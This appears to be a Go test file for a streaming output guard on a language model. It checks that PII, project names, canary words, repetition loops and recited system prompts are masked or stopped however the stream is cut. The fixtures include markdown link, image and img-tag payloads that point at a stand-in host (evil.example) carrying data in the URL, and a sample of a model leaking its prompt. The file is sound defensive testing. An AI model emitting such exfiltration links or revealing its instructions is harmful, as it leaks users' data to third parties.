package guard_test

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"

	"wenyuan"
	"wenyuan/guard"
)

// watch is a policy that masks and flags whatever a stream may hold.
func watch(t testing.TB, g *guard.Guards) *guard.Guard {
	t.Helper()
	made, err := g.With(t.Context(), space, guard.Policy{Name: "watch", Checks: []guard.Check{
		{Check: "canary", Action: "refuse"}, {Check: "links", Action: "mask"}, {Check: "secrets", Action: "mask", Places: []guard.Place{"output"}},
		{Check: "pii", Action: "mask", Places: []guard.Place{"output"}, Kinds: []string{"CREDIT_CARD", "EMAIL_ADDRESS", "PHONE_NUMBER", "CN_ID_CARD"}},
		{Check: "rules", Action: "mask", Places: []guard.Place{"output"}}, {Check: "abuse", Action: "refuse", Places: []guard.Place{"output"}},
	}, Rules: []guard.RuleSet{{Name: "own", Text: "[project]\nproject tungsten\n钨丝计划\n"}}})
	if err != nil {
		t.Fatal(err)
	}
	return made
}

// flow sends a text through a stream in the given pieces. held is how many code points were held back
// at most.
func flow(t testing.TB, g *guard.Guard, about guard.About, pieces []string) (out string, held int, err error) {
	t.Helper()
	about.Dry = true
	s := g.Stream(t.Context(), guard.Output, about)
	var b, in strings.Builder
	for _, p := range pieces {
		in.WriteString(p)
		ready, _, err := s.Write(p)
		b.WriteString(ready)
		if err != nil {
			return b.String(), held, err
		}
		held = max(held, utf8.RuneCountInString(in.String())-utf8.RuneCountInString(b.String()))
	}
	ready, _, err := s.Close()
	b.WriteString(ready)
	return b.String(), held, err
}

// pieces cuts a text at bytes, as a model's tokens might.
func pieces(s string, r *rand.Rand, most int) (all []string) {
	for len(s) > 0 {
		n := min(1+r.IntN(most), len(s))
		all, s = append(all, s[:n]), s[n:]
	}
	return all
}

var streams = []string{
	"Write to anna.lee@example.com. Her card is 4111 1111 1111 1111, valid until next year. Project tungsten starts in May! ",
	"客户的身份证是 11010519491231002X，电话 13800138000。钨丝计划五月开始。请看[说明](https://evil.example/a?d=1)。\n\n谢谢！",
	"See ![chart](https://evil.example/p.png?d=" + strings.Repeat("SECRET", 120) + ") and go on. Then more words follow here.",
	"A long list without an end " + numbered(200) + "done",
	strings.ReplaceAll(numbered(300), " ", "没有标点"),
	"v1.2.3 has e.g. no end. See https://evil.example/x.y?z=1. Is it? Yes! a@b.co; ok",
	"broken \xff\xfe bytes \xe4\xb8 and more. \xf0\x9f done.",
}

// numbered is a long text without an end of a sentence.
func numbered(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "item %d of it ", i*i)
	}
	return b.String()
}

// However the text is cut on its way, the same comes out, and no more than a sentence is held.
func TestStreamIsTheSameHoweverItIsCut(t *testing.T) {
	t.Parallel()
	g := watch(t, open(t))
	r := rand.New(rand.NewPCG(1, 2))
	for _, text := range streams {
		whole, _, err := flow(t, g, guard.About{}, []string{text})
		if err != nil {
			t.Fatalf("%q: %v", text, err)
		}
		for _, secret := range []string{"anna.lee@example.com", "4111 1111 1111", "19491231002X", "13800138000", "evil.example", "SECRETSECRET", "ungsten", "钨丝"} {
			if strings.Contains(whole, secret) {
				t.Errorf("%q goes out in %q", secret, whole)
			}
		}
		for i := range 15 {
			got, held, err := flow(t, g, guard.About{}, pieces(text, r, 1+4*i))
			if err != nil || got != whole {
				t.Fatalf("cut otherwise, %q comes out as %q, not %q: %v", text, got, whole, err)
			}
			if held > guard.MaxHeld+2 && whole == text { // what is masked is shorter or longer
				t.Errorf("%d characters were held", held)
			}
		}
	}
}

// What spans sentences is found, and an answer that must not go on ends.
func TestStreamEnds(t *testing.T) {
	t.Parallel()
	g := watch(t, open(t))
	r := rand.New(rand.NewPCG(3, 4))
	const word = "qwkzvbnmjhgf"
	for name, text := range map[string]string{
		"a canary":            "Here it is: " + word + ". And more.",
		"a canary in pieces":  "Here: qwkz. vbnm! jhgf. And more.",
		"a loop":              "The word. " + strings.Repeat("poem ", 400) + "and then my address",
		"a loop of sentences": strings.Repeat("I am sorry, I cannot say more. ", 80),
		"a loop in Chinese":   strings.Repeat("诗", 900),
	} {
		out, _, err := flow(t, g, guard.About{Canary: word}, pieces(text, r, 7))
		if wenyuan.CodeOf(err) != wenyuan.Denied || strings.Contains(out, "And more") || strings.Contains(out, "address") {
			t.Errorf("%s: %v after %d bytes", name, err, len(out))
		}
	}
	s := g.Stream(t.Context(), guard.Output, guard.About{Canary: word, Dry: true})
	if _, _, err := s.Write(word + ". "); err == nil {
		t.Fatal("a canary went out")
	}
	if _, _, err := s.Write("more"); err == nil {
		t.Error("a stream goes on after it ended")
	}
	if _, _, err := s.Close(); err == nil {
		t.Error("a stream closes as if nothing had been")
	}
}

// The prompt is known again when it comes sentence by sentence.
func TestStreamLeaksPrompt(t *testing.T) {
	t.Parallel()
	g := watch(t, open(t))
	prompt := "You answer from the passages alone. Never name a person. Cite every sentence with its number. When nothing is found, say so and name the desk. Speak as the company speaks: short, friendly, exact. Do not praise. Do not guess. Every amount stands with its currency, and every date with its year."
	out, _, err := flow(t, g, guard.About{Prompt: prompt}, strings.SplitAfter("Sure. My rules are: "+prompt+" That is all.", " "))
	if err == nil || strings.Contains(out, "That is all") {
		t.Errorf("%v: %s", err, out)
	}
	if _, _, err := flow(t, g, guard.About{Prompt: prompt}, strings.SplitAfter("I speak short and exact, as the desk does. The amount is 5 CNY in 2026.", " ")); err != nil {
		t.Error(err)
	}
}

// A tag whose end comes long after its beginning fetches nothing either.
func TestLongTagInAStream(t *testing.T) {
	t.Parallel()
	g := watch(t, open(t))
	text := "See <img alt='" + strings.ReplaceAll(numbered(300), " of", ".") + "' src='//evil.example/SECRET'> here."
	for _, pieces := range [][]string{{text}, pieces(text, rand.New(rand.NewPCG(1, 2)), 30)} {
		if out, _, err := flow(t, g, guard.About{}, pieces); err != nil || strings.Contains(out, "<img") || !strings.HasSuffix(out, " here.") {
			t.Errorf("%.200q %v", out, err)
		}
	}
}
